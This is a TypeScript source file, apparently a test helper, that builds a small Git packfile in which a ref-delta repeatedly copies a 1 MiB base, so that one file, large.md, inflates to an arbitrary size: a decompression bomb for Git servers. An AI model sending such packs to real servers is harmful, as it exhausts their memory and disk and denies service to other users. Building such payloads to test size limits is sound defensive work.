/** A pack of a few thousand bytes in which one file is as large as one likes: a delta that copies its base again and again. */
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";

const BASE = Buffer.alloc(1024 * 1024, "0123456789abcdef");
const TYPES = { commit: 1, tree: 2, blob: 3, delta: 7 } as const;
const PERSON = "Ann <ann@example.org> 1767323045 +0000";

export interface DeltaBomb {
  readonly pack: Buffer;
  readonly commit: string;
}

/**
 * @param parent of the commit, by its full id.
 * @param mebibytes of the file `large.md`.
 */
export function deltaBomb(parent: string, mebibytes: number): DeltaBomb {
  const size = mebibytes * BASE.length;
  const hash = createHash("sha1").update(`blob ${size}\0`);
  for (let each = 0; each < mebibytes; each++) hash.update(BASE);
  // Git sends a delta as it is where its base is sent too.
  const tree = Buffer.concat([
    ...[Buffer.from("100644 base.md\0"), oidOf("blob", BASE)],
    ...[Buffer.from("100644 large.md\0"), hash.digest()],
  ]);
  const commit = Buffer.from(
    `tree ${oidOf("tree", tree).toString("hex")}\nparent ${parent}\nauthor ${PERSON}\ncommitter ${PERSON}\n\nAdd a file\n`,
  );
  // Of the base, from its start, the bytes of a length that has its third byte alone: 0x10 << 16.
  const copies = Buffer.from(Array.from({ length: mebibytes }, () => [0x80 | 0x40, 0x10]).flat());
  const delta = Buffer.concat([varint(BASE.length), varint(size), copies]);
  const objects = [
    packed("blob", BASE),
    Buffer.concat([header("delta", delta.length), oidOf("blob", BASE), deflateSync(delta)]),
    packed("tree", tree),
    packed("commit", commit),
  ];
  const start = Buffer.alloc(12);
  start.write("PACK");
  start.writeUInt32BE(2, 4);
  start.writeUInt32BE(objects.length, 8);
  const body = Buffer.concat([start, ...objects]);
  const pack = Buffer.concat([body, createHash("sha1").update(body).digest()]);
  return { pack, commit: oidOf("commit", commit).toString("hex") };
}

function oidOf(type: string, content: Buffer): Buffer {
  return createHash("sha1").update(`${type} ${content.length}\0`).update(content).digest();
}

function packed(type: keyof typeof TYPES, content: Buffer): Buffer {
  return Buffer.concat([header(type, content.length), deflateSync(content)]);
}

/** Four bits of the size stand beside the type, seven in each byte behind it. */
function header(type: keyof typeof TYPES, size: number): Buffer {
  const rest = Math.floor(size / 16);
  const first = (TYPES[type] << 4) | (size & 15);
  return rest === 0 ? Buffer.from([first]) : Buffer.concat([Buffer.from([first | 0x80]), varint(rest)]);
}

/** Seven bits in each byte, the lowest first. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let left = value;
  for (; left > 127; left = Math.floor(left / 128)) bytes.push((left & 127) | 128);
  return Buffer.from([...bytes, left]);
}
